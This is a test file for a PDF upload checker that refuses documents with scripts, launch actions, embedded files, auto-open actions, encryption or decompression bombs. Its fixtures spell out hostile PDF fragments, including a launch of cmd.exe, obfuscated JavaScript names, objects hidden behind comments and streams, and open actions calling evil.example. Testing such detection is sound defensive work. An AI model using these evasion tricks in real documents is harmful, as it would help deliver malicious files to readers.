import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { pdfFile } from '../../../../test/sample-files.ts'
import { inspectPdf } from './inspect-pdf.ts'

const pdfFault = (bytes: Buffer) => inspectPdf(bytes).fault
const scripts = 'PDFs with scripts or actions are not accepted'

/** An object stream, as every writer since PDF 1.5 makes them. */
function packed(objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer {
  const data = deflateSync(Buffer.from(objects))
  const head = Buffer.from(`9 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`)
  return Buffer.concat([head, data, Buffer.from('\nendstream\nendobj\n')])
}

test('accepts a plain document, and one with compressed objects', () => {
  expect(pdfFault(pdfFile())).toBeUndefined()
  expect(pdfFault(pdfFile({ more: [packed('7 0 << /Type /Font >>')] }))).toBeUndefined()
})

test.each([
  ['a script', '6 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'],
  [
    'a script whose names are written in hexadecimal',
    '6 0 obj\n<< /S /J#61v#61Script /#4aS (x) >>\nendobj\n',
  ],
  ['a script of a rendition', '6 0 obj\n<< /S /Rendition /JS 8 0 R >>\nendobj\n'],
  ['an action that starts a program', '6 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'],
  [
    'a script hidden where a stream seems to be',
    '6 0 obj\n<< /Length 0 >>\nstream\n<< /S /JavaScript >>\nendstream\n',
  ],
  ['a script among packed objects', packed('7 0 << /S /JavaScript /JS (x) >>')],
  ['a packed script that does not say what it is', packed('7 0 << /JS (x) >>', '/N 1 /First 4 /Filter /Fl')],
])('refuses %s', (_, object) => {
  expect(pdfFault(pdfFile({ more: [object] }))).toBe(scripts)
})

const carrier = 'PDFs with embedded files are not accepted. Print the document to a new PDF and upload that'
const automatic =
  'PDFs that start an action by themselves are not accepted. Print the document to a new PDF and upload that'
const object = (content: string, number = 6) => `${number} 0 obj\n${content}\nendobj\n`

test.each([
  ['a list of embedded files', object('<< /Names << /EmbeddedFiles 7 0 R >> >>')],
  ['an embedded file', '6 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj\n'],
  ['a file specification with content', object('<< /Type /Filespec /F (a.exe) /E#46 << /F 7 0 R >> >>')],
  ['an annotation that offers a file', object('<< /Subtype /FileAttachment /FS 7 0 R >>')],
  ['a packed list of embedded files', packed('7 0 << /EmbeddedFiles 8 0 R >>')],
])('refuses %s, and says why', (_, hidden) => {
  expect(pdfFault(pdfFile({ more: [hidden] }))).toBe(carrier)
})

const uri = '<< /S /URI /URI (https://evil.example) >>'
test.each([
  ['an address opened with the document', [object(`<< /OpenAction ${uri} >>`)]],
  ['such an action in another object', [object('<< /OpenAction 7 0 R >>'), object(uri, 7)]],
  [
    'one with several versions',
    [object('<< /OpenAction 7 0 R >>'), object('[3 0 R /Fit]', 7), object(uri, 7)],
  ],
  ['one in a packed object', [object('<< /OpenAction 7 0 R >>'), packed(`7 0 ${uri}`)]],
  ['a packed one', [packed(`4 0 << /Open#41ction ${uri} >>`)]],
  ['one behind a comment', [object(`<< /OpenAction % comment\n${uri} >>`)]],
  ['one whose number is parted', [object('<< /OpenAction 7 0 R >>'), `7%\n0 obj\n${uri}\nendobj\n`]],
  ['one that is nowhere', [object('<< /OpenAction 77 0 R >>')]],
  ['a film', [object('<< /OpenAction << /S /Movie /T (x) >> >>')]],
  ['an action behind a page', [object(`<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${uri} >> >>`)]],
  ['a form that sends itself', [object('<< /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>')]],
  ['an action of a page', [object(`<< /Type /Page /AA << /O ${uri} >> >>`)]],
  ['a packed action of a page', [packed(`7 0 << /AA << /O ${uri} >> >>`)]],
])('refuses %s: it would run without a click', (_, hidden) => {
  expect(pdfFault(pdfFile({ more: hidden }))).toBe(automatic)
})

test.each([
  ['a page', [object('<< /OpenAction [3 0 R /XYZ null null 0] >>')]],
  ['a page by an action', [object('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')]],
  ['a named page', [object('<< /OpenAction << /Type /Action /S /GoTo /D (page.1) >> >>')]],
  ['a page in another object', [object('<< /OpenAction 7 0 R >>'), object('[3 0 R /FitH 800]', 7)]],
  [
    'a page in a packed object',
    [object('<< /OpenAction 7 0 R >>'), packed('7 0 << /S /GoTo /D [3 0 R /Fit] >>')],
  ],
])('accepts a document that opens at %s, and one with links to click', (_, more) => {
  expect(pdfFault(pdfFile({ more: [...more, object(`<< /Subtype /Link /A ${uri} >>`, 8)] }))).toBeUndefined()
})

describe.each([
  ['a comment', '%>> stream\n', '%endstream\n'],
  ['a text', object('(>> stream\n)', 10), object('(endstream)', 11)],
  ['a stream', '10 0 obj\n<< /Length 0 >>\nstream\n', 'endstream\nendobj\n'],
])('behind %s that hides objects', (_, begin, end) => {
  const faultOf = (hidden: string | Buffer) => pdfFault(pdfFile({ more: [begin, hidden, end] }))

  test('a packed script is found', () => {
    expect(faultOf(packed('7 0 << /S /JavaScript /JS (x) >>'))).toBe(scripts)
  })

  test.each([
    '<< /Names << /EmbeddedFiles 7 0 R >> >>',
    '<< /Type /Filespec /EF % comment\n<< /F 7 0 R >> >>',
    '<< /Subtype /FileAttachment /FS 7 0 R >>',
  ])('%s is found', (hidden) => {
    expect(faultOf(object(hidden))).toBe(carrier)
  })

  test.each([`<< /OpenAction ${uri} >>`, `<< /Type /Page /AA << /O ${uri} >> >>`, '<< /AA 7 0 R >>'])(
    '%s is found',
    (hidden) => {
      expect(faultOf(object(hidden))).toBe(automatic)
    },
  )
})

test('accepts compressed pages in which short names occur by chance', () => {
  const chance = '10 0 obj\n<< /Length 12 >>\nstream\n/AA)x /EF 5 /AA\nendstream\nendobj\n'
  expect(pdfFault(pdfFile({ more: [chance] }))).toBeUndefined()
})

test('refuses a file that it cannot inspect', () => {
  const twice = packed('7 0 << >>', '/Type /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')
  expect(pdfFault(pdfFile({ more: [twice] }))).toBe('This PDF could not be read')
  const behindComment = packed('7 0 << /JS (x) >>').toString('latin1').replace('>>\n', '>> %\n')
  expect(pdfFault(pdfFile({ more: [Buffer.from(behindComment, 'latin1')] }))).toBe(
    'This PDF could not be read',
  )
  const bomb = packed(' '.repeat(70 * 1024 * 1024))
  expect(pdfFault(pdfFile({ more: [bomb] }))).toBe('This PDF could not be read')
})

describe('of an encrypted document', () => {
  const encrypt = '6 0 obj\n<< /Encrypt 8 0 R >>\nendobj\n'
  const hidden =
    'This PDF is encrypted, and parts of it cannot be checked for scripts. Save it without a password, or print it to a new PDF'

  test('the names of objects can be read, so that it is accepted or refused as others are', () => {
    expect(inspectPdf(pdfFile({ more: [encrypt] }))).toEqual({
      ...{ fault: undefined, xml: undefined, isEncrypted: true },
    })
    expect(inspectPdf(pdfFile())).toMatchObject({ isEncrypted: false })
    expect(pdfFault(pdfFile({ more: [encrypt, object('<< /S /JavaScript >>', 7)] }))).toBe(scripts)
    expect(pdfFault(pdfFile({ more: [encrypt, object(`<< /OpenAction ${uri} >>`, 7)] }))).toBe(automatic)
    expect(pdfFault(pdfFile({ more: [encrypt, object('<< /EmbeddedFiles 9 0 R >>', 7)] }))).toBe(carrier)
  })

  test.each([
    ['in plain sight', encrypt],
    ['as another writing of the name', encrypt.replace('/Encrypt', '/#45ncrypt')],
    ['where a stream seems to be', `10 0 obj\n<< /Length 0 >>\nstream\n${encrypt}endstream\nendobj\n`],
  ])('packed objects are refused, since nobody can read them: encrypted %s', (_, encrypted) => {
    const quiet = packed('7 0 << /Type /Font >>')
    expect(pdfFault(pdfFile({ more: [encrypted, quiet] }))).toBe(hidden)
    expect(pdfFault(pdfFile({ more: [quiet, encrypted] }))).toBe(hidden)
  })
})

test('is quick even for a file that was made to be slow', () => {
  // The processor's time, not the clock's: others work on this machine too.
  const started = process.threadCpuUsage()
  pdfFault(Buffer.from(`%PDF-1.7\n${'>> stream\nendstream '.repeat(250_000)}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'>>'.padEnd(5_000_000, ' ')}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'>>%'.repeat(2_000_000)}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'#41'.repeat(3_000_000)}`))
  pdfFault(pdfFile({ more: [packed('#41/#4a'.repeat(4_000_000))] }))
  pdfFault(Buffer.from(`%PDF-1.7\n${'/OpenAction 5 0 R '.repeat(400_000)}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'/OpenAction 5 0 R '.repeat(5)}${'\n 0 '.repeat(1_500_000)}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'/OpenAction <<(('.repeat(5)}${'0'.repeat(8_000_000)}`))
  pdfFault(Buffer.from(`%PDF-1.7\n${'/First 1 /ObjStm >>stream\n'.repeat(100_000)}`))
  const hidden = (text: string) => pdfFault(pdfFile({ more: ['%>> stream\n', text, 'endstream'] }))
  for (const text of ['/AA  %  \n', '/AA %', '/EF%/EF\n']) hidden(text.repeat(150_000))
  hidden('/AA'.padEnd(2_000_000, ' '))
  const { user, system } = process.threadCpuUsage(started)
  expect((user + system) / 1_000).toBeLessThan(3_000)
})
